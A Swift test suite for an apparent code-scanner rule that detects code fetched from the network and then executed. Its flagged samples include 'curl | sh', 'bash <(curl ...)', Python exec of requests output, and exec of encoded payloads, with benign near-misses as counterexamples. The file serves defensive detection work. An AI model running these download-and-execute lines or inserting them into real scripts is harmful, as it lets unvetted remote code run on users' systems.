import OpenscanFacts
import OpenscanSourceCode
import OpenscanTestSupport
import Testing

private func findings(_ text: String, _ path: String) throws -> [Finding] {
    let reader = CodeReader(TestRules.shared)
    let language = try #require(reader.language(path))
    return Array(text.utf8).withUnsafeBytes {
        FetchAndRun.findings($0, language: language, facts: reader.read($0, language: language), path: path)
    }
}

@Suite struct FetchAndRunTests {
    @Test(arguments: [
        ("import requests\nexec(requests.get('http://x').text)\n", "a.py"),
        ("code = urllib.request.urlopen(url).read()\nexec(code)\n", "a.py"),
        ("exec(base64.b64decode('cHJpbnQoMSk='))\n", "a.py"), ("exec(zlib.decompress(b'..'))\n", "setup.py"),
        ("curl -fsSL https://x/install.sh | sh\n", "install.sh"),
        ("bash <(curl -s https://x)\n", "run.sh"),
        ("import os\nos.system('curl http://x -o /tmp/a && /tmp/a')\n", "setup.py"),
        (#"{"cells":[{"cell_type":"code","source":["exec(requests.get(u).text)"]}]}"#, "n.ipynb"),
        ("os.system('curl https://x | sh')\n", "a.py"), ("!curl -s https://x | bash\n", "a.py"),
        ("blob = marshal.loads(data)\nexec(blob)\n", "a.py"),
    ])
    func codeThatIsFetchedAndRunIsFound(sample: (String, String)) throws {
        #expect(!(try findings(sample.0, sample.1).isEmpty))
    }

    @Test(arguments: [
        ("model.eval()\nr = requests.get(url)\nprint(r.text)\n", "a.py"), ("# exec(requests.get(url).text)\n", "a.py"),
        ("wget https://x/model.bin -O model.bin\n", "get.sh"), ("exec(open('version.py').read())\n", "setup.py"),
        ("print('Install it: curl https://x | sh')\n", "a.py"), ("cursor.exec(query)\nx = b64decode(s)\n", "a.py"),
        ("image = Image.open(io.BytesIO(base64.b64decode(s)))\n", "a.py"),
    ])
    func fetchingOrRunningAloneIsNot(sample: (String, String)) throws {
        #expect(try findings(sample.0, sample.1).isEmpty)
    }
}
